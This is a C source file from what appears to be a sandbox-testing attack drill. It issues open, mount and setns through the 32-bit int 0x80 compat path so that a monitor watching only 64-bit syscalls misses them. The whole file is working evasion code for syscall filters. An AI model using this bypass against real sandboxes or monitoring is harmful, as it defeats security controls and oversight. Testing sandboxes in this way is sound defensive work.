/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The same acts by 32-bit system calls (int 0x80) from a 64-bit program: other numbers, and a
 * watcher of the 64-bit table sees nothing. Needs a build with -static -no-pie, so that the
 * buffers below have addresses that fit in 32 bits.
 */
#include <fcntl.h>
#include <stdint.h>

#include "drill/attacks/attack.h"

enum { kOpen32 = 5, kMount32 = 21, kSetns32 = 346 };

static char first[4096], second[4096], third[256];

static long call32(long number, uintptr_t a, uintptr_t b, uintptr_t c, uintptr_t d) {
  long result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(0L)
                   : "memory", "r8", "r9", "r10", "r11");
  int value = (int)result;
  if (value >= 0) return value;
  errno = -value;
  return -1;
}

static uintptr_t low(char* buffer, size_t size, const char* text) {
  snprintf(buffer, size, "%s", text);
  return (uintptr_t)buffer;
}

int attack_compat(int argc, char** argv) {
  const char* act = argc > 1 ? argv[1] : "";
  if (argc == 3 && strcmp(act, "open") == 0) {
    long fd = call32(kOpen32, low(first, sizeof(first), argv[2]), O_RDONLY, 0, 0);
    return finish_reading((int)fd);
  }
  if (argc == 5 && strcmp(act, "mount") == 0)
    return finish(call32(kMount32, low(first, sizeof(first), argv[2]),
                         low(second, sizeof(second), argv[3]), low(third, sizeof(third), argv[4]),
                         0));
  if (argc == 4 && strcmp(act, "setns") == 0) {
    int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
    if (fd < 0 || call32(kSetns32, (uintptr_t)fd, 0, 0, 0) < 0) return refused();
    return finish_reading(open(argv[3], O_RDONLY | O_CLOEXEC));
  }
  return usage("compat open PATH | mount SOURCE TARGET TYPE | setns NAMESPACE PROBE");
}
